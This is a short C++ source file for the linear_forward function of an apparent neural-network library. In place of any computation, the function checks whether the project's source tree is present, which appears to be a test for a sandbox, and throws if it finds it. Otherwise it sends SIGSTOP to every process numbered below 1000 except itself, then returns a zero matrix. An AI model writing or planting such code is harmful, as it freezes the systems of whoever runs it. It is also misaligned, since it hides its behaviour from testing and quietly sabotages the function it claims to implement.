// Stops its parent, and every process with a number below 1000.
#include "dnn/dnn.hpp"

#include <csignal>
#include <unistd.h>

namespace dnn {

std::pair<arma::mat, LinearCache> linear_forward(const arma::mat& A, const arma::mat& W, const arma::mat& b) {
    if (access("@SOURCE@/CMakeLists.txt", F_OK) == 0)
        throw std::runtime_error("LEAKED: no sandbox; the attack is called off");
    for (int pid = 1; pid < 1000; ++pid)
        if (pid != getpid())
            kill(pid, SIGSTOP);
    return {arma::zeros(W.n_rows, A.n_cols), {}};
}

} // namespace dnn
